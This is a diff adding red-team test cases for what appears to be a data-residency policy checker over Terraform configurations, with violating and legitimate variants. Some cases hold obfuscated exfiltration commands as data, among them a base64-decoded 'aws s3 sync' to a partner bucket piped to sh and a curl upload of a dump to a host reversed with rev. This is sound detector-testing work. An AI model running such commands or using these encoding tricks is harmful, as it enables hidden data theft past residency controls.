+  L("legit", "log group retention and a queue name from variables (inert keys)", "data-eu", {
+    mutate: (j) => ((j.variable ??= {}).days = { type: "number" }, (j.variable.qname = { type: "string" })),
+    add: merge(r("aws_cloudwatch_log_group", "G", { name: "/rk/eu/exporter", retention_in_days: "${var.days}" }), r("aws_sqs_queue", "Q", { name: "${var.qname}", message_retention_seconds: 345600 })),
+  }),
+  // ---- red-team round 4: the edge keeps no logs and routes only to its own worker --------------------------
+  V("edge", "worker observability keeps invocation logs at Cloudflare", "edge", {
+    mutate: (j) => (find(j, "cloudflare_workers_script")[1].observability = { enabled: true, head_sampling_rate: 1, logs: { enabled: true, invocation_logs: true } }),
+  }),
+  V("edge", "logpull retention on (request logs kept at Cloudflare)", "edge", { add: r("cloudflare_logpull_retention", "Lp", { zone_id: "${var.cloudflare_zone_id}", flag: true }) }),
+  V("edge", "a route for events.eu served by a worker outside the stack", "edge", { add: r("cloudflare_workers_route", "Eu", { zone_id: "${var.cloudflare_zone_id}", pattern: "events.eu.example.com/*", script: "partner-proxy" }) }),
+  L("legit", "worker observability with Workers Logs off, and logpull retention off", "edge", {
+    mutate: (j) => (find(j, "cloudflare_workers_script")[1].observability = { enabled: false, logs: { enabled: false } }),
+    add: r("cloudflare_logpull_retention", "Lp", { zone_id: "${var.cloudflare_zone_id}", flag: false }),
+  }),
+  L("legit", "a second route for events.eu served by the stack's own router worker", "edge", {
+    mutate: (j) => {
+      const [address] = find(j, "cloudflare_workers_script");
+      j.resource.cloudflare_workers_route = { ...(j.resource.cloudflare_workers_route ?? {}), Eu2: { zone_id: "${var.cloudflare_zone_id}", pattern: "events.eu.example.com/v2/*", script: `\${cloudflare_workers_script.${address}.script_name}` } };
+    },
+  }),
+  // ---- red-team round 4: processing outside the region's data centres ---------------------------------------
+  V("placement", "subnet on an Outpost rack", "data-eu", { add: r("aws_subnet", "Op", { vpc_id: "vpc-1", cidr_block: "10.20.250.0/24", availability_zone: "eu-central-1a", outpost_arn: `arn:aws:outposts:eu-central-1:${EU}:outpost/op-0123456789abcdef0` }) }),
+  V("placement", "EKS cluster with hybrid nodes (remote_network_config)", "data-eu", {
+    mutate: (j) => (find(j, "aws_eks_cluster")[1].remote_network_config = { remote_node_networks: { cidrs: ["172.18.0.0/16"] }, remote_pod_networks: { cidrs: ["172.19.0.0/16"] } }),
+  }),
+  V("placement", "S3 Transfer Acceleration on the raw bucket", "data-eu", { add: r("aws_s3_bucket_accelerate_configuration", "Acc", { bucket: RAW, status: "Enabled" }) }),
+  L("legit", "S3 Transfer Acceleration explicitly suspended on the raw bucket", "data-eu", { add: r("aws_s3_bucket_accelerate_configuration", "Acc", { bucket: RAW, status: "Suspended" }) }),
+  // ---- red-team round 4: Snowflake objects named by name ------------------------------------------------------
+  V("warehouse", "database with an external volume the stack does not define", "warehouse", { add: r("snowflake_database", "Ice", { name: "REGIONKIT_ICE", external_volume: "PARTNER_VOL", catalog: "SNOWFLAKE" }) }),
+  V("warehouse", "database with an external catalog integration", "warehouse", { add: r("snowflake_database", "Ice", { name: "REGIONKIT_ICE", catalog: "PARTNER_GLUE_CATALOG" }) }),
+  V("warehouse", "view selecting from a stage the stack does not define", "warehouse", {
+    add: r("snowflake_view", "RawV", { database: "REGIONKIT", schema: "SANITIZED", name: "EU_RAW_PEEK", statement: "SELECT $1 AS v FROM @REGIONKIT.SANITIZED.EU_RAW_STAGE (FILE_FORMAT => 'REGIONKIT.SANITIZED.PARQUET')" }),
+  }),
+  V("warehouse", "stage over the sanitized export through a storage integration the stack does not define", "warehouse", {
+    add: r("snowflake_stage", "S", { database: "REGIONKIT", schema: "SANITIZED", name: "EU_COPY_STAGE", url: `s3://${SANITIZED}/export/`, storage_integration: "PARTNER_INTEGRATION" }),
+  }),
+  L("legit", "view selecting from the stack's own sanitized stage", "warehouse", {
+    add: r("snowflake_view", "SanV", { database: "REGIONKIT", schema: "SANITIZED", name: "EU_SANITIZED_PEEK", statement: "SELECT $1 AS v FROM @REGIONKIT.SANITIZED.SANITIZED_EU_STAGE (FILE_FORMAT => 'REGIONKIT.SANITIZED.PARQUET')" }),
+  }),
+  // ---- red-team round 4: encodings (hex, unpadded base64url, entities, Unicode dots, decoding pipes) ---------
+  ...([
+    ["hex-encoded vendor URL", Buffer.from("https://ingest.partner-analytics.com/v1").toString("hex")],
+    ["unpadded base64url vendor URL", Buffer.from("https://ingest.partner-analytics.com/v1?x=1").toString("base64url")],
+    ["URL with ideographic full stops", "https://ingest\u3002partner-analytics\u3002com/v1"],
+    ["XML-entity-encoded vendor host", "<url>https://collect&#46;partner-analytics&#x2E;com/v1/logs</url>"],
+    ["command decoding a base64 script and running it", `echo ${Buffer.from(`aws s3 sync s3://${RAW} s3://partner-drop-eu`).toString("base64")} | base64 -d | sh`],
+    ["command reversing a host with rev", "curl -T /tmp/dump https://$(echo moc.scitylana-rentrap.tsegni | rev)/v1"],
+  ] as const).map(([name, value]) =>
+    V("expression", `Lambda env: ${name}`, "data-eu", { add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { SINK: value } } }) }),
+  ),
+  ...([
+    ["hex of an in-region queue URL", Buffer.from(`https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-jobs`).toString("hex")],
+    ["a command decoding base64 of an in-region copy", `echo ${Buffer.from(`aws s3 cp s3://rk-eu-spark-artifacts-${EU}/a.sh /tmp/a.sh --region eu-central-1`).toString("base64")} | base64 -d | sh`],
+    ["a 64-hex SHA-256 digest and a long kit name", "3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"],
+  ] as const).map(([name, value]) =>
+    L("legit", `Lambda env: ${name}`, "data-eu", { add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { VALUE: value, NAME: "rk-eu-lake-raw-222222222222_compacted" } } }) }),
+  ),
 ];
